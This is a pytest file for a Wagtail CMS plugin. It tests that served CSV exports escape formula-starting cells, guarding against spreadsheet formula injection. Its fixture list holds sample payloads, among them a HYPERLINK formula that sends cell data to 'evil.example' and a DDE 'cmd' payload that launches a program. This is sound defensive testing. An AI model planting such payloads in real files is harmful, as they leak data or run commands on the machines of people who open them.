"""Issue 17, section 6: no CSV the CMS serves hands a formula to a spreadsheet."""

import ast
import csv
import io
from pathlib import Path

import pytest

from wagtail_convene.intake.views import IntakeView
from wagtail_convene.spreadsheets import safe_csv

from .conftest import make_event, make_reviewer

PLUGIN = Path(__file__).resolve().parents[2] / "cms"
QUEUE = "/admin/convene/intake/registrations/"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&C2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_cell_that_would_start_a_formula_is_escaped_once():
    raw = io.StringIO()
    csv.writer(raw).writerows([["name", "phone"], *([f, "ok"] for f in FORMULAS)])
    once = safe_csv(raw.getvalue())
    assert rows(once)[1:] == [["'" + f, "ok"] for f in FORMULAS]
    assert safe_csv(once) == once  # a service that already escaped: nothing changes


@pytest.mark.django_db
def test_the_participants_export_is_escaped_whatever_the_service_sends(
    client, django_user_model, monkeypatch
):
    event = make_event()
    client.force_login(make_reviewer(django_user_model))
    unescaped = io.StringIO()
    csv.writer(unescaped).writerows(
        [["name", "organisation", "status"], [FORMULAS[0], FORMULAS[3], "selected"]]
    )

    def call(view, method, *args, **kwargs):
        assert method == "export"
        return unescaped.getvalue()  # a service that forgot to escape

    monkeypatch.setattr(IntakeView, "call", call)
    answer = client.post(f"{QUEUE}?event={event.event_key}", {"export": "1"})
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    assert rows(answer.content.decode())[1] == ["'" + FORMULAS[0], "'" + FORMULAS[3], "selected"]


def test_no_other_plugin_code_writes_csv():
    found = []
    for path in (PLUGIN / "wagtail_convene").rglob("*.py"):
        if path.name == "spreadsheets.py" and path.parent.name == "wagtail_convene":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                found.append(f"{path.name}:{node.lineno}")
    assert found == []
